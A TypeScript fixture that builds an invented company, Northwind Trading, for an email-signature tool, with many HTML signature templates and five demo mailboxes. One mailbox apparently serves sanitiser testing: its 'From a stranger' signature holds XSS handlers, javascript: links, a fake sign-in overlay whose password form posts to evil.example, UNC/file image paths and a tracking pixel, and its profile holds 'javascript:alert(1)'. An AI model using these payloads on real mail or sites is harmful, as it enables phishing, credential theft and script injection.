/** The demonstration organisation: invented people and companies with realistic signatures. */
import type { Organisation, Person, Signature, VariableDefinition } from './repository.ts'

const NAVY = '#0f3d5e'
const TEAL = '#1b8a8f'
const CORAL = '#c4492e'
const GREY = '#5b6770'
const FONT = 'font-family:Arial,Helvetica,sans-serif;'

const definition = (
  path: string,
  custom_type: string | null,
  lookups: Record<string, string>,
  metas: Partial<VariableDefinition['metas']> = {},
): VariableDefinition => ({
  path,
  lookups,
  metas: {
    custom_type,
    hidden: false,
    non_editable: false,
    resettable: Object.keys(lookups).length > 0,
    ...metas,
  },
})

const definitions: readonly VariableDefinition[] = [
  definition('first_name', null, { azure: 'givenName' }),
  definition('last_name', null, { azure: 'surname' }),
  definition('email', null, { azure: 'mail' }, { non_editable: true, resettable: false }),
  definition('picture_url', null, {}, { non_editable: true }),
  definition('job_title', 'mapped', { azure: 'jobTitle' }),
  definition('department', 'mapped', { azure: 'department' }),
  definition('phone', 'mapped', { azure: 'telephoneNumber', google: 'workPhone' }),
  definition('mobile_phone', 'mapped', { azure: 'mobile' }),
  definition('office', 'mapped', { azure: 'officeLocation' }, { resettable: false }),
  definition('company', 'mapped', { azure: 'companyName' }, { non_editable: true }),
  definition('employee_number', 'mapped', { azure: 'employeeId' }, { hidden: true, non_editable: true }),
  definition('website', 'rest', {}),
  definition('network_page', 'rest', {}),
  definition('legal_line', 'rest', {}, { non_editable: true }),
  definition('pronouns', 'personal', {}, { display_name: 'Pronouns' }),
  definition('booking_link', 'personal', {}, { display_name: 'Booking link' }),
  definition('campaign_line', 'campaign', {}, { display_name: 'Campaign line' }),
]

const picture = (path: string, width: number, height: number, alt: string, more = '') =>
  `<img src="{{images}}/${path}" width="${width}" height="${height}" alt="${alt}" border="0" style="display:block;border:0;width:${width}px;height:${height}px;${more}">`

const link = (href: string, label: string, colour = NAVY) =>
  `<a href="${href}" style="color:${colour};text-decoration:underline;">${label}</a>`

const line = (content: string, size = 13, colour = GREY) =>
  `<tr><td style="${FONT}font-size:${size}px;line-height:${size + 6}px;color:${colour};padding:0;">${content}</td></tr>`

const table = (rows: string, attributes = '') =>
  `<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="border-collapse:collapse;" ${attributes}>${rows}</table>`

const nameLine = (colour = NAVY) =>
  line(
    `<strong style="color:${colour};">{{display_name}}</strong>{{#if pronouns}} <span style="font-size:12px;">({{pronouns}})</span>{{/if}}`,
    16,
    colour,
  )

const contactLines = (colour = NAVY) =>
  line('{{job_title}}{{#if department}} &middot; {{department}}{{/if}}') +
  `{{#if phone}}${line(`T ${link('tel:{{tel phone}}', '{{phone}}', colour)}`)}{{/if}}` +
  `{{#if mobile_phone}}${line(`M ${link('tel:{{tel mobile_phone}}', '{{mobile_phone}}', colour)}`)}{{/if}}` +
  line(`E ${link('mailto:{{email}}', '{{email}}', colour)}`) +
  `{{#if website}}${line(`W ${link('{{web website}}', '{{website}}', colour)}`)}{{/if}}`

const icons = table(
  `<tr>${[
    { icon: 'globe', path: 'website', alt: 'Website' },
    { icon: 'people', path: 'network_page', alt: 'Professional network' },
    { icon: 'calendar', path: 'booking_link', alt: 'Book a meeting' },
  ]
    .map(
      ({ icon, path, alt }) =>
        `{{#if ${path}}}<td style="padding:6px 6px 0 0;"><a href="{{web ${path}}}">${picture(`social/${icon}.png`, 24, 24, alt)}</a></td>{{/if}}`,
    )
    .join('')}</tr>`,
)

const besideLogo = (details: string) =>
  table(
    `<tr><td valign="top" style="padding:0 18px 0 0;border-right:2px solid ${TEAL};">${picture('northwind/logo.png?v=2', 180, 48, 'Northwind Trading')}</td><td valign="top" style="padding:0 0 0 18px;">${table(details)}${icons}</td></tr>`,
    'width="520"',
  )

const besidePortrait = (details: string) =>
  table(
    `<tr>{{#if picture_url}}<td valign="top" width="96" style="padding:0 16px 0 0;"><img src="{{picture_url}}" width="96" height="96" alt="{{display_name}}" border="0" style="display:block;border-radius:48px;width:96px;height:96px;"></td>{{/if}}<td valign="top">${table(details)}${icons}</td></tr>`,
    'width="480"',
  )

const withBanner = (above: string, banner: string, href: string, alt: string) =>
  `${above}${table(`<tr><td style="padding:14px 0 0 0;"><a href="${href}">${picture(`banners/${banner}.png?v=3`, 480, 96, alt, 'max-width:100%;')}</a></td></tr>`)}`

const closing = (greeting: string, after: string) =>
  `<p style="${FONT}font-size:14px;color:#222222;margin:0 0 12px 0;">${greeting}</p>${after}`

const corporate = besideLogo(nameLine() + contactLines())
const portrait = besidePortrait(nameLine() + contactLines() + line('{{company}}, {{office}}', 12))
const short = table(
  nameLine() + line(`{{job_title}} &middot; {{company}} &middot; ${link('tel:{{tel phone}}', '{{phone}}')}`),
)
const nameOnly = `<p style="${FONT}font-size:14px;color:${NAVY};margin:0;">{{first_name}}</p>`
const plain = `<p style="${FONT}font-size:13px;line-height:19px;color:#222222;margin:0;">{{display_name}}<br>{{job_title}}, {{company}}<br>${link('tel:{{tel phone}}', '{{phone}}')} | ${link('mailto:{{email}}', '{{email}}')}</p>`

const legal = `<style>
.nw-legal { font-family: Georgia, 'Times New Roman', serif; color: ${GREY}; }
.nw-legal a { color: ${TEAL}; text-decoration: underline; }
@media (max-width: 480px) { .nw-legal td { display: block !important; width: auto !important; } }
</style>
<div class="nw-legal">${besideLogo(nameLine() + contactLines(TEAL))}
<p style="font-size:11px;line-height:15px;width:520px;margin:14px 0 0 0;">{{legal_line}} This message and its attachments are meant for the persons it is addressed to. If you received it by mistake, please tell the sender and delete it. See our <a href="https://www.northwind.example/privacy?from=mail&amp;v=2">privacy notice</a>.</p></div>`

const classic = `${portrait}
<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="{{web booking_link}}" style="height:34px;v-text-anchor:middle;width:170px;" arcsize="50%" stroke="f" fillcolor="${TEAL}"><center style="color:#ffffff;font-family:Arial,sans-serif;font-size:13px;font-weight:bold;">Book a meeting</center></v:roundrect><![endif]-->
<!--[if !mso]><!--><a href="{{web booking_link}}" style="${FONT}background-color:${TEAL};border-radius:17px;color:#ffffff;display:inline-block;font-size:13px;font-weight:bold;line-height:34px;margin-top:12px;text-align:center;text-decoration:none;width:170px;">Book a meeting</a><!--<![endif]-->`

const onNavy = table(
  `<tr><td style="padding:16px;">${picture('northwind/logo-white.png', 196, 56, 'Northwind Trading')}</td><td style="padding:16px 20px 16px 0;">${table(
    nameLine('#ffffff') +
      line('{{job_title}}', 13, '#d5e6ee') +
      line(link('tel:{{tel phone}}', '{{phone}}', '#ffffff'), 13, '#d5e6ee') +
      line(link('{{web website}}', '{{website}}', '#ffffff'), 13, '#d5e6ee'),
  )}</td></tr>`,
  `width="520" bgcolor="${NAVY}"`,
)

const withBadges = table(
  `<tr><td valign="top">${table(nameLine() + contactLines())}</td><td valign="top" style="padding-left:20px;">${picture('northwind/badge.png', 80, 80, 'Certified low carbon')}</td><td valign="top" style="padding-left:8px;">${picture('partners/badge.png', 80, 80, 'Partner of the year')}</td></tr>`,
)

const meeting = besideLogo(
  nameLine() +
    contactLines() +
    line(
      `{{#if booking_link}}<a href="{{web booking_link}}" style="color:${CORAL};font-weight:bold;">Book 30 minutes with {{first_name}}</a>{{/if}}`,
    ),
)

const away = `${corporate}<p style="${FONT}font-size:13px;color:#ffffff;background-color:${CORAL};padding:8px 12px;margin:12px 0 0 0;width:496px;">{{campaign_line}}</p>`

type Unnumbered = Omit<Signature, 'combinedIds'>

const signature = (
  ownerId: string,
  name: string,
  template: string,
  over: Partial<Unnumbered> = {},
): Unnumbered => ({ ownerId, name, template, variants: [], audiences: [], ...over })

const HARBOUR_DAYS = 'https://events.northwind.example/harbour-days?utm_source=mail&amp;utm_campaign=autumn'

const ofAlex: readonly Unnumbered[] = [
  signature('u-1', 'Northwind standard', corporate, {
    variants: [{ code: 'reply', template: short }],
    order: 0,
  }),
  signature('u-1', 'With portrait', portrait, {
    variants: [
      { code: 'reply', template: short },
      { code: 'mobile', template: plain },
    ],
    order: 1,
  }),
  signature('u-1', 'Short', short, { order: 2 }),
  signature(
    'u-1',
    'Harbour Days',
    withBanner(corporate, 'autumn', HARBOUR_DAYS, 'Northwind Harbour Days, 24 and 25 September'),
    {
      variants: [{ code: 'reply', template: short }],
      collection: 'campaigns',
      order: 0,
    },
  ),
  signature(
    'u-1',
    'We are hiring',
    withBanner(
      portrait,
      'careers',
      'https://careers.northwind.example/open',
      'We are hiring: see open roles',
    ),
    { collection: 'campaigns', order: 1 },
  ),
  signature('u-1', 'Colleagues', closing('See you at the quay,', nameOnly), {
    audiences: ['northwind.example'],
    collection: 'internal',
  }),
  signature('u-1', 'Partners', withBadges, {
    audiences: ['quayside.example', 'harbour-partners.example'],
    collection: 'partners',
    variants: [{ code: 'reply', template: short }],
  }),
  signature('u-1', 'With legal notice', legal, { order: 3, variants: [{ code: 'reply', template: short }] }),
  signature('u-1', 'With meeting button', classic, { order: 4 }),
  signature('u-1', 'Meeting link', meeting, { order: 5 }),
  signature('u-1', 'On navy', onNavy, { order: 6 }),
  signature('u-1', 'Summer hours', away, { collection: 'campaigns', order: 2 }),
  signature('u-1', 'Français', closing('Bien cordialement,', corporate), { collection: 'languages' }),
  signature('u-1', 'Plain', plain, { order: 7 }),
]

const ofSales: readonly Unnumbered[] = [
  signature('u-2', 'Sales desk', besideLogo(nameLine(TEAL) + contactLines(TEAL)), {
    variants: [{ code: 'reply', template: plain }],
  }),
  signature(
    'u-2',
    'Sales desk, Harbour Days',
    withBanner(plain, 'autumn', HARBOUR_DAYS, 'Northwind Harbour Days'),
  ),
  signature('u-2', 'Quotation', closing('Thank you for asking us,', portrait), { collection: 'quotations' }),
]

const ofMaria: readonly Unnumbered[] = [
  signature('u-3', 'Padrão Northwind', closing('Com os melhores cumprimentos,', corporate), {
    variants: [{ code: 'reply', template: closing('Cumprimentos,', short) }],
  }),
  signature('u-3', 'Com fotografia', closing('Com os melhores cumprimentos,', portrait), { order: 1 }),
  signature('u-3', 'Curta', closing('Cumprimentos,', short), { order: 2 }),
  signature(
    'u-3',
    'Boas festas',
    withBanner(
      portrait,
      'winter',
      'https://www.northwind.example/pt/contactos',
      'Boas festas! O escritório fecha de 24 de dezembro a 2 de janeiro',
    ),
    { collection: 'campanhas' },
  ),
  signature('u-3', 'Aviso legal', legal, { order: 3 }),
  signature('u-3', 'Simples', plain, { order: 4 }),
]

/** Exactly 40,000 characters of valid HTML: more than a mail client accepts. */
function longNotice(): string {
  const clause = (at: number) =>
    `<p style="${FONT}font-size:11px;line-height:15px;color:${GREY};margin:0 0 8px 0;"><strong>${at}.</strong> Prices are those of the day of shipment. Goods travel at the risk of the receiver from the moment they cross the rail of the vessel, no matter who pays the freight.</p>`
  let notice = `<p style="${FONT}font-size:14px;color:${NAVY};margin:0 0 8px 0;">Tess Edge, Northwind Trading</p>`
  for (let at = 1; notice.length + clause(at).length <= 39_900; at += 1) notice += clause(at)
  const [open, close] = ['<p style="font-size:11px;">End of terms', '</p>']
  return `${notice}${open}`.padEnd(40_000 - close.length, '.') + close
}

const hostile = `<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url("https://evil.example/a.css"); body { background: url("https://evil.example/b.png") } p { display: none }</style>
<script>document.title = 'owned'</script>
<div style="position:fixed;inset:0;z-index:99999;background:#ffffff;opacity:0.9;">Your session has ended. <a href="https://evil.example/login">Sign in again</a></div>
<img src="x" onerror="document.title='owned'">
<svg onload="document.title='owned'"><script>document.title='owned'</script></svg>
<a href="javascript:document.title='owned'">Click here</a> <a href=" jav&#x09;ascript:document.title='owned'">or here</a>
<form action="https://evil.example/collect" method="post"><input name="password" type="password"><button>Send</button></form>
<iframe src="https://evil.example/" srcdoc="&lt;script&gt;parent.document.title='owned'&lt;/script&gt;"></iframe>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<link rel="stylesheet" href="https://evil.example/c.css">
<table background="https://evil.example/d.png"><tr><td style="background-image:url('https://evil.example/e.png');width:expression(alert(1));">{{display_name}}</td></tr></table>
<img src="\\\\evil.example\\share\\u.png" width="1" height="1" alt="">
<img src="file://evil.example/share/v.png" width="1" height="1" alt="">
<img src="https://tracker.evil.example/open.gif?who=tess" width="1" height="1" alt="">
<p onmouseover="document.title='owned'" style="${FONT}font-size:14px;color:${NAVY};">Tess Edge, <a href="https://www.northwind.example/" target="_blank">Northwind Trading</a></p>
${picture('northwind/mark.png', 40, 40, 'Northwind')}`

const catalogue = table(
  [0, 1, 2, 3]
    .map(
      (row) =>
        `<tr>${[1, 2, 3, 4, 5]
          .map((column) => {
            const number = String(row * 5 + column).padStart(2, '0')
            return `<td style="padding:3px;"><a href="https://shop.northwind.example/items/${number}">${picture(`catalogue/${number}.png`, 48, 48, `Item ${number}`)}</a></td>`
          })
          .join('')}</tr>`,
    )
    .join(''),
)

const ofTess: readonly Unnumbered[] = [
  signature(
    'u-5',
    'Ordinary',
    besidePortrait(nameLine() + contactLines()).replace(
      icons,
      picture('northwind/mark.png?v=2', 40, 40, 'Northwind'),
    ),
    { variants: [{ code: 'reply', template: nameOnly }] },
  ),
  signature('u-5', 'All the terms', longNotice(), { order: 1 }),
  signature('u-5', 'From a stranger', hostile, { order: 2 }),
  signature('u-5', 'Catalogue', `${nameOnly}${catalogue}`, { order: 3 }),
  signature('u-5', 'Two badges', withBadges, { order: 4 }),
  signature('u-5', 'Missing picture', `${short}${picture('banners/spring.png', 480, 96, 'Spring offers')}`, {
    order: 5,
  }),
  signature('u-5', 'Empty', '', { order: 6 }),
  signature('u-5', 'Only text', 'Tess Edge, Northwind Trading', { order: 7 }),
  signature('u-5', 'Only a picture', picture('northwind/logo.png?v=2', 180, 48, 'Northwind Trading'), {
    order: 8,
  }),
]

const person = (
  record: Pick<Person, 'id' | 'email' | 'photo' | 'planId' | 'values' | 'directory'> & Partial<Person>,
): Person => ({
  isAdmin: false,
  clientName: 'Northwind Trading',
  delegations: [],
  metadata: {},
  adminDefault: null,
  mayChooseDefault: true,
  addinInfo: null,
  ...record,
})

const shared = {
  company: 'Northwind Trading',
  website: 'https://www.northwind.example',
  network_page: '',
  legal_line: 'Northwind Trading, 12 Harbour Street, registered under 1921-0042.',
  pronouns: '',
  booking_link: '',
  campaign_line: '',
}

const people: readonly Person[] = [
  person({
    id: 'u-1',
    email: 'alex.kim@northwind.example',
    isAdmin: true,
    language: 'en',
    delegations: ['u-2', 'u-3'],
    photo: 'people/alex-kim.png',
    planId: 'full',
    metadata: { defaultSignature: { master: '12-0', reply: '12-0' } },
    adminDefault: { master: '11-0' },
    values: {
      ...shared,
      first_name: 'Alex',
      last_name: 'Kim',
      job_title: 'Head of Voyage Planning',
      department: 'Operations',
      phone: '+44 20 5550 0142',
      mobile_phone: '',
      office: 'Harbour House, 3rd floor',
      employee_number: 'NW-1042',
      network_page: 'https://network.example/in/alex-kim',
      pronouns: 'they/them',
      booking_link: 'https://book.northwind.example/alex-kim?length=30&type=call',
      campaign_line: 'Summer hours: the desk closes at 15:00 on Fridays until 29 August.',
    },
    directory: {
      givenName: 'Alex',
      surname: 'Kim',
      jobTitle: 'Voyage Planning Manager',
      department: 'Operations',
      telephoneNumber: '+44 20 5550 0142',
      mobile: '',
      companyName: 'Northwind Trading',
      employeeId: 'NW-1042',
    },
  }),
  person({
    id: 'u-2',
    email: 'sales@northwind.example',
    language: 'en',
    photo: 'people/sales-desk.png',
    planId: 'trial',
    adminDefault: { master: '25-0' },
    values: {
      ...shared,
      first_name: 'Northwind',
      last_name: 'Sales desk',
      job_title: 'Quotations and orders',
      department: '',
      phone: '+44 20 5550 0100',
      mobile_phone: '',
      office: 'Harbour House, ground floor',
      employee_number: '',
    },
    directory: {
      givenName: 'Northwind',
      surname: 'Sales desk',
      jobTitle: 'Quotations and orders',
      department: '',
      telephoneNumber: '+44 20 5550 0100',
      mobile: '',
      companyName: 'Northwind Trading',
      employeeId: '',
    },
  }),
  person({
    id: 'u-3',
    email: 'maria.silva@northwind.example',
    language: 'pt',
    photo: 'people/maria-silva.png',
    planId: 'basic',
    adminDefault: { master: '28-0' },
    values: {
      ...shared,
      first_name: 'Maria',
      last_name: 'Silva',
      job_title: 'Diretora de Operações',
      department: 'Operações',
      phone: '+351 21 555 0171',
      mobile_phone: '+351 91 555 0172',
      office: 'Cais da Ribeira, Porto',
      employee_number: 'NW-2071',
      network_page: 'https://network.example/in/maria-silva',
      campaign_line: 'Boas festas de toda a equipa!',
    },
    directory: {
      givenName: 'Maria João',
      surname: 'Silva',
      jobTitle: 'Diretora de Operações',
      department: 'Operações Ibéricas',
      telephoneNumber: '+351 21 555 0170',
      mobile: '+351 91 555 0172',
      companyName: 'Northwind Trading (Portugal), Lda.',
      employeeId: 'NW-2071',
    },
  }),
  person({
    id: 'u-4',
    email: 'jonas.weber@northwind.example',
    language: 'de',
    photo: null,
    planId: 'harbour-edition',
    mayChooseDefault: false,
    values: {
      ...shared,
      first_name: 'Jonas',
      last_name: 'Weber',
      job_title: 'Schichtleiter',
      department: 'Umschlag',
      phone: '+49 40 5550 0117',
      mobile_phone: '',
      office: 'Speicherstadt, Hamburg',
      employee_number: 'NW-3017',
    },
    directory: {
      givenName: 'Jonas',
      surname: 'Weber',
      jobTitle: 'Schichtleiter',
      companyName: 'Northwind Trading',
    },
  }),
  person({
    id: 'u-5',
    email: 'tess.edge@northwind.example',
    delegations: ['u-2'],
    photo: 'people/tess-edge.png',
    planId: 'full',
    adminDefault: { master: '34-0' },
    values: {
      ...shared,
      first_name: 'Tess',
      last_name: 'Edge',
      job_title: 'Quality <"&\'> Assurance',
      department: 'R&D',
      phone: '+44 20 5550 0199',
      mobile_phone: '+44 7700 900 199',
      office: '',
      employee_number: 'NW-0007',
      network_page: 'javascript:alert(1)',
      pronouns: 'she/her',
    },
    directory: {
      givenName: 'Tess',
      surname: 'Edge',
      jobTitle: 'Quality Assurance',
      department: 'R&D',
      telephoneNumber: '+44 20 5550 0199',
      mobile: '+44 7700 900 199',
      companyName: 'Northwind Trading',
      employeeId: 'NW-0007',
    },
  }),
]

/** Combined ids count from 11-0 in this order; the defaults above refer to them. */
const signatures: readonly Signature[] = [...ofAlex, ...ofSales, ...ofMaria, ...ofTess].map((entry, at) => ({
  combinedIds: `${at + 11}-0`,
  ...entry,
}))

/** Northwind Trading: five mailboxes, from an ordinary one to one with hostile signatures. */
export const demonstration: Organisation = {
  maintenance: null,
  definitions,
  people,
  signatures,
}
